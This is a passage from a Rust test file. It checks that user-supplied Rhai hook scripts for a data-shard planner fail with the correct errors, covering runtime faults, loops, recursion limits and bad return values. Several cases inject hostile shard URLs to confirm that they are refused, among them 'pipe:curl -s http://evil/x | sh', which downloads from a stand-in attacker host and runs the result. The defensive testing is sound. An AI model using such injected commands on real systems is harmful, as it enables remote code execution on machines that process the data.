            source: "fn shard_shuffle(shards, ctx) {\n    throw \"no shards for you\";\n}",
            check: |e| matches!(e, HookError::Runtime { hook: HookName::ShardShuffle, line: 2, message, .. } if message.contains("no shards for you")),
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_selection(shards, ctx) { shards[1000] }",
            check: |e| {
                matches!(
                    e,
                    HookError::Runtime {
                        hook: HookName::ShardSelection,
                        line: 1,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "reseed.rhai",
            source: "fn reseed(ctx) { ctx.rng.next_int(0) }",
            check: |e| matches!(e, HookError::Runtime { hook: HookName::Reseed, message, .. } if message.contains("bound must be positive")),
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_selection(shards, ctx) { loop { } }",
            check: |e| matches!(e, HookError::Limit { hook: HookName::ShardSelection, limit, .. } if limit.contains("operations")),
        },
        Failure {
            file: "reseed.rhai",
            source: "fn deeper(x) { deeper(x + 1) }\nfn reseed(ctx) { deeper(0) }",
            check: |e| {
                matches!(
                    e,
                    HookError::Limit {
                        hook: HookName::Reseed,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "reseed.rhai",
            source: "fn reseed(ctx) { let s = \"x\"; loop { s += s; } }",
            check: |e| matches!(e, HookError::Limit { hook: HookName::Reseed, limit, .. } if limit.contains("too large")),
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_selection(shards, ctx) { shards[0].stride = 0; shards }",
            check: |e| matches!(e, HookError::Runtime { hook: HookName::ShardSelection, message, .. } if message.contains("stride must be at least 1")),
        },
        Failure {
            file: "node_selection.rhai",
            source: "fn node_selection(shards, ctx) { 42 }",
            check: |e| matches!(e, HookError::WrongReturnType { hook: HookName::NodeSelection, found, .. } if found == "i64"),
        },
        // A hook whose list holds something other than shards is named, not the next
        // hook that reads the element (nor shard_shuffle, which passes it on).
        Failure {
            file: "node_selection.rhai",
            source: "fn node_selection(shards, ctx) { [1, 2] }",
            check: |e| {
                matches!(
                    e,
                    HookError::BadShard {
                        hook: HookName::NodeSelection,
                        index: 0,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_selection(shards, ctx) { shards + [()] }",
            check: |e| {
                matches!(
                    e,
                    HookError::BadShard {
                        hook: HookName::ShardSelection,
                        ..
                    }
                )
            },
        },
        // Hooks select, reorder and repeat the shards they are given; a URL that was
        // not configured (here a command every trainer would run) is refused.
        Failure {
            file: "node_selection.rhai",
            source: "fn node_selection(shards, ctx) { shards + [\"pipe:touch /tmp/owned\"] }",
            check: |e| matches!(e, HookError::BadShard { hook: HookName::NodeSelection, problem, .. } if problem.contains("`pipe:touch /tmp/owned` is not one of the configured shards")),
        },
        Failure {
            file: "shard_shuffle.rhai",
            source: "fn shard_shuffle(shards, ctx) { [#{ url: \"pipe:curl -s http://evil/x | sh\", samples: 10 }] }",
            check: |e| matches!(e, HookError::BadShard { hook: HookName::ShardShuffle, index: 0, problem, .. } if problem.contains("not one of the configured shards")),
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_selection(shards, ctx) { shards.map(|s| s.url + \".extra\") }",
            check: |e| matches!(e, HookError::BadShard { hook: HookName::ShardSelection, index: 0, problem, .. } if problem.contains(".tar.extra` is not one of the configured shards")),
        },
        Failure {
            file: "shard_shuffle.rhai",
            source: "fn shard_shuffle(shards, ctx) { [#{ url: \"x.tar\", stride: 0 }] }",
            check: |e| {
                matches!(
                    e,
                    HookError::BadShard {
                        hook: HookName::ShardShuffle,
                        index: 0,
                        ..
                    }
                )
            },
        },
    ];
    for failure in failures {
        let (dir, loaded) = user_hooks(&[(failure.file, failure.source)]);
        let err = match loaded {
            Err(err) => err,
            Ok(hooks) => match plan_with(simdist(BatchPolicy::Join), hooks, 0) {
                Err(PlanError::Hook(err)) => err,
                other => panic!("{}: expected a hook error, got {other:?}", failure.source),
            },
        };
        assert!((failure.check)(&err), "{}: {err:?}", failure.source);
        let text = err.to_string();
        let path = dir.path().join(failure.file).display().to_string();
        assert!(text.contains(&path), "{text} names {path}");
        if !matches!(err, HookError::UnknownFile { .. }) {
            let hook = failure.file.trim_end_matches(".rhai");
            assert!(text.contains(hook), "{text} names the hook");
        }
    }
}
